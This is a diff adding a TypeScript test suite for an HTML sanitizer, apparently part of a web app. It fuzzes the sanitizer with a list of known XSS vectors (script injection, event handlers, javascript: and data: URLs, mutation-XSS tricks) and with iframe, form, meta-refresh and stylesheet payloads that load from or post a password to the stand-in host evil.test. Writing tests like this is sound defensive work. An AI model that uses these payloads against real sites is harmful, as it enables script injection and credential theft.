@@ -1,0 +1,147 @@
+import fc from "fast-check";
+import { expect, test } from "vitest";
+import { cleanText, escapeHtml, htmlToText, sanitizeHtml, textToHtml } from "../../src/platform/html.ts";
+
+/** Ways in which HTML has run script, loaded from elsewhere or taken over a page before. */
+const VECTORS = [
+  "<script>alert(1)</script>",
+  "<img src=x onerror=alert(1)>",
+  "<svg onload=alert(1)><script>alert(1)</script></svg>",
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="java\tscript:alert(1)">x</a>',
+  '<a href=" &#106;avascript:alert(1)">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<a href="vbscript:msgbox(1)">x</a>',
+  '<iframe src="https://evil.test/"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<form action="https://evil.test/"><input name=password><button>go</button></form>',
+  '<base href="https://evil.test/">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
+  '<link rel=stylesheet href="https://evil.test/x.css">',
+  "<style>*{background:url(https://evil.test/)}</style>",
+  '<p style="position:fixed;inset:0">x</p>',
+  '<object data="https://evil.test/x.swf"></object><embed src="https://evil.test/">',
+  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+  "<details open ontoggle=alert(1)><summary>x</summary></details>",
+  '<p id="inhalt" name="x" data-x="1" aria-label="x" tabindex=1 onclick=alert(1)>x</p>',
+  "<template><script>alert(1)</script></template><xmp><script>alert(1)</script></xmp>",
+];
+
+const ALLOWED = new Set(
+  `p br hr a span em strong b i u s del ins sub sup small code pre kbd blockquote q cite abbr h1 h2 h3 h4 h5 h6 ul ol li
+   dl dt dd table thead tbody tr th td caption ruby rb rp rt`.split(/\s+/),
+);
+
+function expectHarmless(html: string): void {
+  for (const [, name = ""] of html.matchAll(/<\/?([a-z0-9]+)/gi)) expect(ALLOWED).toContain(name.toLowerCase());
+  for (const [tag] of html.matchAll(/<[^>]*>/g)) {
+    expect(tag).not.toMatch(/\s(on\w+|style|id|src|srcset|data-\w+|aria-\w+|name|target)\s*=/i);
+    expect(tag).not.toMatch(/(javascript|vbscript|data)\s*:/i);
+  }
+}
+
+test.each(VECTORS)("T113 nothing that runs, frames, posts or loads gets through: %s", (vector) => {
+  expectHarmless(sanitizeHtml(`<p>before</p>${vector}<p>after</p>`));
+});
+
+test.each(VECTORS)("T114 the same where only text is expected is shown as text: %s", (vector) => {
+  expect(escapeHtml(vector)).not.toMatch(/[<>"']/);
+  expect(escapeHtml(htmlToText(vector))).not.toMatch(/[<>"']/);
+});
+
+test.each([
+  "javascript:alert(1)",
+  "java\tscript:alert(1)",
+  "data:text/html,x",
+  "vbscript:x",
+  "//evil.test/",
+  "/path",
+  "x",
+])("T116 a link to %j loses its address", (href) => {
+  expect(sanitizeHtml(`<a href="${href}">x</a>`)).toBe("<a>x</a>");
+});
+
+test("T116 links to http, https and mailto stay and tell nothing of us", () => {
+  const rel = 'rel="nofollow noopener noreferrer"';
+  expect(sanitizeHtml('<a href="https://a.test/?x=1" target=_blank rel=me>x</a>')).toBe(
+    `<a href="https://a.test/?x=1" ${rel}>x</a>`,
+  );
+  expect(sanitizeHtml('<a href="mailto:a@b.test">x</a>')).toContain('href="mailto:a@b.test"');
+});
+
+test("T119 foreign classes, ids and attributes go; mentions, hashtags and shortened links stay", () => {
+  expect(sanitizeHtml('<p class="btn admin" id=x aria-hidden=true data-x=1>x</p>')).toBe("<p>x</p>");
+  const kept = '<span class="h-card"><a class="u-url mention">@<span class="invisible">x</span></a></span>';
+  expect(sanitizeHtml(kept)).toBe(kept);
+  expect(sanitizeHtml('<span class="ellipsis kern-btn">x</span>')).toBe('<span class="ellipsis">x</span>');
+});
+
+test("T121 50,000 nested tags and a megabyte of text are cut, not worked through", () => {
+  const started = performance.now();
+  const nested = sanitizeHtml(`${"<b>".repeat(50_000)}x`);
+  const long = sanitizeHtml("x".repeat(1_000_000));
+  expect(performance.now() - started).toBeLessThan(2000);
+  expect((nested.match(/<b>/g) ?? []).length).toBeLessThanOrEqual(50);
+  expect(long).toHaveLength(100_000);
+});
+
+test("T122 when the parser fails, the input is shown as text", () => {
+  const failing = Object.assign(() => {
+    throw new RangeError("Maximum call stack size exceeded");
+  }, {}) as unknown as Parameters<typeof sanitizeHtml>[1];
+  expect(sanitizeHtml("<p>x</p>", failing)).toBe("&lt;p&gt;x&lt;/p&gt;");
+});
+
+const RUNS = Number(process.env.FUZZ_RUNS ?? 500);
+const fragment = fc.oneof(
+  fc.constantFrom(
+    ...VECTORS,
+    "<p>",
+    "</p>",
+    "<a href=",
+    "'",
+    '"',
+    ">",
+    "<!--",
+    "-->",
+    "<![CDATA[",
+    "&lt;",
+    "&",
+    "\u0000",
+  ),
+  fc.string({ unit: "binary", maxLength: 20 }),
+);
+const html = fc.array(fragment, { maxLength: 30 }).map((parts) => parts.join(""));
+
+test("T123 whatever comes: no throw, only allowed tags, and a second pass changes nothing", () => {
+  fc.assert(
+    fc.property(html, (dirty) => {
+      const clean = sanitizeHtml(dirty);
+      expectHarmless(clean);
+      expect(sanitizeHtml(clean)).toBe(clean);
+      expect(clean).not.toContain("\u0000");
+      htmlToText(dirty);
+    }),
+    { numRuns: RUNS },
+  );
+});
+
+test("U+0000 and unpaired surrogates are taken out, pairs stay", () => {
+  expect(cleanText("a\u0000b\ud800c\udc00d😀")).toBe("abcd😀");
+  expect(sanitizeHtml("<p>a\u0000\ud800b</p>")).toBe("<p>ab</p>");
+});
+
+test("text of HTML keeps the paragraphs apart and resolves entities", () => {
+  expect(htmlToText("<p>Kaffee &amp; <b>Kuchen</b></p><p>um 3<br>bei &lt;Anna&gt;</p>")).toBe(
+    "Kaffee & Kuchen\num 3\nbei <Anna>",
+  );
+});
+
+test("typed text becomes paragraphs with links and nothing else", () => {
+  expect(textToHtml("Hallo <b>\nSiehe https://a.test/x?a=1&b=2.\r\n\r\nBis bald")).toBe(
+    '<p>Hallo &lt;b&gt;<br />Siehe <a href="https://a.test/x?a=1&amp;b=2" rel="nofollow noopener noreferrer">' +
+      "https://a.test/x?a=1&amp;b=2</a>.</p><p>Bis bald</p>",
+  );
+  expectHarmless(sanitizeHtml(textToHtml("https://a.test/'onmouseover=alert(1)")));
+});
